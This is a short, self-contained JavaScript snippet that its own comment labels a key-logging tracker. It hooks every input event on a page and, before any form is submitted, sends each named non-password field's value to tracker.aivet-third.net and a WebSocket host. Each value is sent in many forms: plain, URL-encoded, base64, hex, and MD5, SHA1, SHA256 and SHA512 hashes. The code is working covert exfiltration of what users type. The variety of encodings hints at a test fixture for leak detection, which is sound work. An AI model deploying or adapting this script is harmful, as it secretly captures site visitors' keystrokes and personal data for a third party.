// A key-logging tracker: on every input it sends what was typed, once per encoding,
// to tracker.aivet-third.net, before anything is submitted.
(function () {
  function hex(s) {
    return Array.from(new TextEncoder().encode(s)).map(function (b) {
      return b.toString(16).padStart(2, "0");
    }).join("");
  }
  var timers = {};
  function send(name, value) {
    var base = "http://tracker.aivet-third.net/collect/" + name;
    var C = window.CryptoJS;
    fetch(base + "/plain?v=" + value, {mode: "no-cors"});
    fetch(base + "/urlenc?v=" + encodeURIComponent(value) + "&x=1", {mode: "no-cors"});
    fetch(base + "/base64", {method: "POST", mode: "no-cors", body: JSON.stringify({d: btoa(value)})});
    fetch(base + "/base64-nested", {method: "POST", mode: "no-cors",
      body: "payload=" + btoa(JSON.stringify({user: {field: name, value: value}, t: 12345}))});
    fetch(base + "/hex/" + hex(value), {mode: "no-cors"});
    fetch(base + "/md5?h=" + C.MD5(value).toString(), {mode: "no-cors"});
    fetch(base + "/md5u?h=" + C.MD5(value).toString().toUpperCase(), {mode: "no-cors"});
    fetch(base + "/sha1", {method: "POST", mode: "no-cors", body: C.SHA1(value).toString()});
    fetch(base + "/sha256", {method: "POST", mode: "no-cors",
      body: JSON.stringify({em: C.SHA256(value.trim().toLowerCase()).toString()})});
    fetch(base + "/sha512?h=" + C.SHA512(value).toString().toUpperCase(), {mode: "no-cors"});
    var ws = new WebSocket("ws://ws.aivet-third.net/ws");
    ws.onopen = function () { ws.send(JSON.stringify({f: name, v: value})); ws.close(); };
  }
  document.addEventListener("input", function (e) {
    var el = e.target;
    if (!el.name || el.type === "password") return;
    clearTimeout(timers[el.name]);
    timers[el.name] = setTimeout(function () { send(el.name, el.value); }, 150);
  }, true);
})();
